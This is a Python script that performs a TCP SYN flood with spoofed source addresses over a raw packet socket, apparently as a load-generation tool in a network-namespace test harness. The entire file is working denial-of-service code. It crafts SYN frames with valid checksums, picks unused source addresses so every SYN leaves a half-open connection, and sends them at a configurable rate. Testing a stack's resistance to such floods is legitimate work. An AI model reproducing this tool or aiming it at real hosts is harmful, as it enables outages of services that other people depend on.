#!/usr/bin/env python3
"""SYN flood from a client namespace: --count N TCP SYNs (Ethernet + IPv4 +
TCP with an MSS option, correct IPv4 and TCP checksums) to DST_IP:PORT,
from spoofed source addresses in --src-range A.B.C.D-A.B.C.E (pick addresses
of the subnet no host uses, so the SYN-ACKs go unanswered and every SYN
leaves a half-open connection), random source ports and sequence numbers,
sent on an AF_PACKET socket to the node's MAC. Paced at --rate frames per
second and bounded by --deadline seconds; prints how many were sent and
exits 0 iff all N were.
"""
import argparse
import random
import socket
import struct
import sys
import time

sys.dont_write_bytecode = True  # no __pycache__ in the source tree
from tcpdata import csum


def mac_bytes(mac):
    b = bytes(int(x, 16) for x in mac.split(":"))
    if len(b) != 6:
        raise ValueError("bad MAC %r" % mac)
    return b


def syn_frame(dst_mac, src_mac, src_ip, dst_ip, sport, dport, seq, ip_id):
    # TCP header: 20 bytes + MSS option (4) = data offset 6.
    opts = struct.pack("!BBH", 2, 4, 1460)
    tcp = struct.pack("!HHIIBBHHH", sport, dport, seq, 0, 6 << 4, 0x02,
                      64240, 0, 0) + opts
    pseudo = src_ip + dst_ip + struct.pack("!BBH", 0, 6, len(tcp))
    tcp = tcp[:16] + struct.pack("!H", csum(pseudo + tcp)) + tcp[18:]
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), ip_id, 0x4000,
                     64, 6, 0, src_ip, dst_ip)
    ip = ip[:10] + struct.pack("!H", csum(ip)) + ip[12:]
    return dst_mac + src_mac + b"\x08\x00" + ip + tcp


def ip_range(spec):
    lo, _, hi = spec.partition("-")
    a = struct.unpack("!I", socket.inet_aton(lo))[0]
    if "." not in hi:  # 10.77.0.200-250
        hi = lo.rsplit(".", 1)[0] + "." + hi
    b = struct.unpack("!I", socket.inet_aton(hi))[0]
    if b < a or b - a > 65535:
        raise ValueError("bad --src-range %r" % spec)
    return [struct.pack("!I", x) for x in range(a, b + 1)]


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--iface", default="eth0")
    ap.add_argument("--dst-mac", required=True)
    ap.add_argument("--src-mac", required=True)
    ap.add_argument("--dst-ip", required=True)
    ap.add_argument("--dst-port", type=int, required=True)
    ap.add_argument("--src-range", required=True,
                    help="spoofed sources, e.g. 10.77.0.200-10.77.0.250")
    ap.add_argument("--count", type=int, default=5000)
    ap.add_argument("--rate", type=float, default=1000.0, help="frames/s")
    ap.add_argument("--deadline", type=float, default=60.0)
    ap.add_argument("--seed", type=int, default=1)
    a = ap.parse_args()
    if a.count < 0 or a.rate <= 0 or a.deadline <= 0:
        ap.error("--count >= 0, --rate > 0, --deadline > 0")
    rnd = random.Random(a.seed)
    dst_mac, src_mac = mac_bytes(a.dst_mac), mac_bytes(a.src_mac)
    dst_ip = socket.inet_aton(a.dst_ip)
    srcs = ip_range(a.src_range)

    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    s.bind((a.iface, 0))
    t0 = time.monotonic()
    end = t0 + a.deadline
    sent = 0
    batch = max(1, int(a.rate / 100))  # about 100 bursts a second
    while sent < a.count:
        now = time.monotonic()
        if now >= end:
            break
        due = t0 + sent / a.rate
        if due > now:
            time.sleep(min(due - now, end - now))
            continue
        for _ in range(min(batch, a.count - sent)):
            f = syn_frame(dst_mac, src_mac, rnd.choice(srcs), dst_ip,
                          rnd.randrange(1024, 65536), a.dst_port,
                          rnd.getrandbits(32), rnd.getrandbits(16))
            try:
                s.send(f)
            except BlockingIOError:
                break
            sent += 1
    secs = time.monotonic() - t0
    print("syn_flood: sent %d of %d SYNs to %s:%d from %d spoofed sources in "
          "%.2f s (%.0f/s)%s" % (sent, a.count, a.dst_ip, a.dst_port, len(srcs),
                                 secs, sent / secs if secs > 0 else 0,
                                 "" if sent == a.count else " INCOMPLETE"))
    return 0 if sent == a.count else 1


if __name__ == "__main__":
    sys.exit(main())
